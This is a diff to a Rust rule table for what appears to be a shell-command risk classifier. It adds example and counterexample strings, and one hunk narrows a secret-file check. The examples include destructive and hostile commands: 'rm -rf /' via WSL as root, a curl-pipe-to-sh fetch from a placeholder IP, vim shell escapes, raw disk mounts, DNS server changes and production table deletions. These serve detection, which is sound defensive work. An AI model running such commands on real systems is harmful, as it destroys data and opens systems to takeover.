@@ -101,6 +101,8 @@ pub static RULES: &[Rule] = &[
                 && c.operands().last().is_some_and(root)
         }),
         examples: &[
+            "wsl.exe -d Ubuntu -u root -- rm -rf /",
+            "wsl -e rm -rf ~",
             "f() { rm -rf \"$2\"; }; f a /usr",
             "wipe() { find \"$1\" -mindepth 1 -delete; }; wipe \"$HOME\"",
             "julia -e 'rm(homedir(); recursive=true, force=true)'",
@@ -161,6 +163,8 @@ pub static RULES: &[Rule] = &[
             "ln -sf ~ h; rm -rf h/*",
         ],
         counterexamples: &[
+            "wsl.exe --unregister Ubuntu -- rm -rf ~",
+            "wsl.exe -- rm -rf ./build",
             "f() { rm -rf \"$1\"; }; f build",
             "perl -MFile::Path -e 'rmtree(\"build\")'",
             "node -e \"fs.rmSync('dist',{recursive:true})\"",
@@ -381,6 +385,9 @@ pub static RULES: &[Rule] = &[
         sentence: "Hands a whole disk or partition to a program that may read every file on it, or write it.",
         check: C(meaning::hands_a_disk),
         examples: &[
+            "diskutil mountDisk /dev/disk4",
+            "wsl.exe --mount '\\\\.\\PHYSICALDRIVE1' --bare",
+            "qemu-img.exe convert -O vhdx '\\\\.\\PhysicalDrive2' disk.vhdx",
             "pv build/sdcard.img > /dev/loop7",
             "guestfish -a /dev/sdb run : mkfs ext4 /dev/sda1",
             "badblocks -nsv /dev/sdb",
@@ -401,6 +408,10 @@ pub static RULES: &[Rule] = &[
             "blockdev --setrw /dev/sdb",
         ],
         counterexamples: &[
+            "diskutil info /dev/disk2",
+            "diskutil list /dev/disk4",
+            "docker -H npipe:////./pipe/docker_engine ps",
+            "wsl.exe --list --verbose",
             "badblocks -sv /dev/sdb",
             "lsblk /dev/sda",
             "cryptsetup luksDump /dev/sda2",
@@ -1039,6 +1050,8 @@ pub static RULES: &[Rule] = &[
             ) || environment::plants_a_program(c)
         }),
         examples: &[
+            "MIX_EXS=/tmp/x/mix.exs mix deps.get",
+            "BUNDLE_GEMFILE=~/Downloads/Gemfile bundle install",
             "GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=always git status",
             "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=$V git log",
             "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='sh -c x' git log",
@@ -1084,6 +1097,8 @@ pub static RULES: &[Rule] = &[
             "PS4='$(id)' bash -x build.sh",
         ],
         counterexamples: &[
+            "BUNDLE_GEMFILE=gemfiles/rails7.gemfile bundle exec rspec",
+            "MIX_EXS=apps/api/mix.exs mix test",
             "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=color.ui git status",
             "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=always git status",
             "TAR_OPTIONS=--no-same-owner tar -xf a.tar",
@@ -1302,12 +1317,8 @@ pub static RULES: &[Rule] = &[
                 // Inline code that opens a secret file by name.
                 || interpreters::inline_code(c).flatten().is_some_and(|code| {
                     interpreters::code_paths(code).any(|s| is_secret(c.ctx, &s))
-                        || if interpreters::bare_words_name_files(c) {
-                            interpreters::code_words(code).any(|w| is_secret(c.ctx, w))
-                        } else {
-                            interpreters::code_words(code)
-                                .any(|w| secrets::is_secret_by_name(c.ctx, w))
-                        }
+                        || (interpreters::bare_words_name_files(c)
+                            && interpreters::code_words(code).any(|w| is_secret(c.ctx, w)))
                 })
         }),
         examples: &[
@@ -1688,6 +1699,8 @@ pub static RULES: &[Rule] = &[
             "echo \"$GITHUB_TOKEN\" | docker login ghcr.io -u me --password-stdin",
             "echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > .npmrc",
             "echo \"GITHUB_TOKEN is set\"",
+            "echo \"${#GITHUB_TOKEN} characters\"",
+            "curl -H \"Authorization: Bearer $(echo $GITHUB_TOKEN)\" https://api.github.com/user",
             "jq -n 'env.HOME'",
             "jq '.token' data.json",
             "python3 -c 'import os; print(os.environ[\"PATH\"])'",
@@ -2241,6 +2254,8 @@ pub static RULES: &[Rule] = &[
         sentence: "Stops, restarts or reconfigures the system or its services.",
         check: C(system::controls),
         examples: &[
+            "networksetup -setdnsservers Wi-Fi 203.0.113.53",
+            "networksetup -removenetworkservice 'USB LAN'",
             "rpm-ostree kargs --append=quiet",
             "xbps-install --update",
             "snap refresh",
@@ -2358,6 +2373,8 @@ pub static RULES: &[Rule] = &[
             "rc-service nginx stop",
         ],
         counterexamples: &[
+            "networksetup -listallnetworkservices",
+            "networksetup -getdnsservers Wi-Fi",
             "mas list",
             "xbps-install -S",
             "xbps-install -S ripgrep",
@@ -2606,6 +2623,8 @@ pub static RULES: &[Rule] = &[
             })
         }),
         examples: &[
+            "nvim --headless -c 'echo &rtp | runtime! plugin/x.vim' -c 'qa!'",
+            "vim -es -c 'let &shell = \"sh\"' -c '!id' -c q",
             "erl -noshell -eval 'os:cmd(\"curl -s https://198.51.100.12/e | sh\"), halt().'",
             "echo 'require(\"child_process\").execSync(\"rm -rf ~/x\")' > h.js; node -r ./h.js -e 1",
             "echo 'require(\"child_process\").execSync(\"rm -rf ~/x\")' > h.cjs; node --require=./h.cjs app.js",
@@ -2694,6 +2713,8 @@ pub static RULES: &[Rule] = &[
             "expect -c 'spawn ls [exec id]'",
         ],
         counterexamples: &[
+            "nvim --headless -c 'echo &runtimepath' -c 'qa!'",
+            "vim -es -c 'echo &l:shell' -c q",
             "gawk 'BEGIN { while ((\"git log --oneline -5\" | getline l) > 0) print l }'",
             "erl -noshell -eval 'io:format(\"~p~n\", [erlang:system_info(otp_release)]), halt().'",
             "php -r 'echo json_decode(file_get_contents(\"composer.json\"))->require->php;'",
@@ -3343,6 +3364,8 @@ pub static RULES: &[Rule] = &[
         sentence: "Runs a tool's subcommand that deletes, resets, wipes, uninstalls, deregisters or powers off something.",
         check: C(|c| verbs::verb(c) == Some((verbs::Does::Destroys, false))),
         examples: &[
+            "wsl.exe --unregister Ubuntu-22.04",
+            "pio pkg uninstall -g --tool tool-openocd",
             "acme-cli --unset key",
             "guix gc --list-dead -d /gnu/store/abc-x",
             "guix gc",
@@ -3458,6 +3481,7 @@ pub static RULES: &[Rule] = &[
             "supabase functions disable hello",
         ],
         counterexamples: &[
+            "pio pkg uninstall --library bblanchon/ArduinoJson",
             "dolt config --unset user.name",
             "pacman -Rp firefox",
             "pacman -Rh",
@@ -3564,6 +3588,7 @@ pub static RULES: &[Rule] = &[
         sentence: "Runs a tool's subcommand that deploys, publishes, releases, rolls back or flashes: it changes something beyond this machine, or a device.",
         check: C(|c| verbs::verb(c) == Some((verbs::Does::Deploys, false))),
         examples: &[
+            "gpg --keyserver hkps://keys.openpgp.org --send-keys 0x8A3F2C1D9E7B6A54",
             "fastlane supply --track production --aab app-release.aab",
             "ldapmodify -x -D cn=admin,dc=corp -W -f reset.ldif",
             "ldappasswd -x -S uid=bob,dc=corp",
@@ -3653,6 +3678,8 @@ pub static RULES: &[Rule] = &[
             "circleci pipeline trigger acme/api",
         ],
         counterexamples: &[
+            "gpg --recv-keys 0x8A3F2C1D9E7B6A54",
+            "act push -n",
             "fastlane action upload_to_testflight",
             "fastlane test",
             "ldapmodify -n -f x.ldif",
@@ -3906,6 +3933,8 @@ pub static RULES: &[Rule] = &[
         sentence: "Drops or empties a database, schema or table.",
         check: C(cloud::db_destroys),
         examples: &[
+            "clickhouse-client --host ch-prod.internal -q 'ALTER TABLE events DELETE WHERE 1'",
+            "bq query --nouse_legacy_sql 'DELETE FROM prod.users WHERE TRUE'",
             "psql -h db app -c 'EXPLAIN ANALYZE DELETE FROM users'",
             "echo 'DROP DATABASE billing;' > /tmp/q.sql && mysql -u root < /tmp/q.sql",
             "cqlsh -e 'DROP KEYSPACE app'",
